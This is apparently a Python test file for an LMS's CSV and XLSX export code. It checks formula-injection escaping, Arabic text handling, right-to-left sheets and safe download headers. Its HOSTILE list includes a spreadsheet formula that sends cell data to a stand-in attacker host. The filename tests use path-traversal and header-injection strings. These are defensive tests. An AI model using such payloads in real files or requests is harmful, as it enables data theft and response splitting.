"""Spreadsheet exports: formula cells neutralised in CSV and XLSX, Arabic names intact, the download's headers."""

from __future__ import annotations

import csv
import io

import pytest
from flask_babel import force_locale
from openpyxl import load_workbook

from lms.core.exports import csv_bytes, export_response, neutralize_cell, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "\tTAB", "\r=1"]
HEADER = ["Name", "Name (Arabic script)", "=Header", "Attendance (%)"]
ROWS = [
    ["Karim Idrissi", "كريم الإدريسي", "present", 50.0],
    *[[value, "مريم", "", None] for value in HOSTILE],
    ["Zineb", "", -3, 7],
]


def _csv_table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _xlsx_table(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_neutralize_cell():
    for value in HOSTILE:
        assert neutralize_cell(value) == "'" + value
    for value in ("Karim", "كريم", "a=b", " =1", "", 5, -5, 2.5, None):
        assert neutralize_cell(value) == value  # numbers stay numbers: only text can be a formula
    assert neutralize_cell(neutralize_cell("=1")) == "'=1"  # once is enough: neutralising twice changes nothing


def test_csv_for_french_excel():
    data = csv_bytes(HEADER, ROWS)
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the Arabic names as UTF-8
    assert b"\r\n" in data and ";" in data.decode("utf-8-sig").splitlines()[0]
    table = _csv_table(data)
    assert table[0] == ["Name", "Name (Arabic script)", "'=Header", "Attendance (%)"]
    assert table[1] == ["Karim Idrissi", "كريم الإدريسي", "present", "50.0"]
    assert [line[0] for line in table[2 : 2 + len(HOSTILE)]] == ["'" + value for value in HOSTILE]
    assert table[-1] == ["Zineb", "", "-3", "7"]
    for line in table:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-3", cell


def test_xlsx_cells_and_direction():
    data = xlsx_bytes([("Attendance", HEADER, ROWS)])
    assert data[:2] == b"PK"
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Attendance"] and not book.active.sheet_view.rightToLeft
    table = _xlsx_table(data)
    assert table[0] == ["Name", "Name (Arabic script)", "'=Header", "Attendance (%)"]
    assert table[1] == ["Karim Idrissi", "كريم الإدريسي", "present", 50]
    # (XML reads a carriage return back as a line feed)
    assert [line[0] for line in table[2 : 2 + len(HOSTILE)]] == ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert table[-1] == ["Zineb", None, -3, 7]  # a number stays a number
    rtl = load_workbook(io.BytesIO(xlsx_bytes([("Présence " + "x" * 40, HEADER, ROWS)], rtl=True)))
    assert rtl.active.sheet_view.rightToLeft and rtl.sheetnames == [("Présence " + "x" * 40)[:31]]


def test_xlsx_drops_the_control_characters_a_file_cannot_hold():
    table = _xlsx_table(xlsx_bytes([("S", ["A"], [["Ka\x00ri\x07m\x1b", "line\nbreak"]])]))
    assert table[1] == ["Karim", "line\nbreak"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_response(app, fmt):
    with app.test_request_context("/"), force_locale("ar"):
        response = export_response(HEADER, ROWS, "attendance-cohort-7", fmt, sheet="Attendance")
    assert response.headers["Content-Disposition"] == f"attachment; filename=attendance-cohort-7.{fmt}"
    assert response.headers["Cache-Control"] == "no-store"
    if fmt == "csv":
        assert response.mimetype == "text/csv"
        assert _csv_table(response.data)[2][0] == "'" + HOSTILE[0]
    else:
        assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        book = load_workbook(io.BytesIO(response.data))
        assert book.sheetnames == ["Attendance"]
        assert book.active.sheet_view.rightToLeft  # the page is in Arabic: so is the sheet's direction
        assert _xlsx_table(response.data)[1][1] == "كريم الإدريسي"


def test_export_response_direction_follows_the_page_unless_told(app):
    with app.test_request_context("/"), force_locale("fr"):
        ltr = export_response(HEADER, ROWS, "x", "xlsx")
        forced = export_response(HEADER, ROWS, "x", "xlsx", rtl=True)
    assert not load_workbook(io.BytesIO(ltr.data)).active.sheet_view.rightToLeft
    assert load_workbook(io.BytesIO(forced.data)).active.sheet_view.rightToLeft


def test_export_response_refuses_an_unknown_format_or_an_unsafe_name(app):
    with app.test_request_context("/"):
        with pytest.raises(ValueError):
            export_response(HEADER, ROWS, "results", "pdf")
        for name in ("a b", "../x", "résultats", "x\r\nSet-Cookie: a=b", ""):
            with pytest.raises(ValueError):
                export_response(HEADER, ROWS, name, "csv")
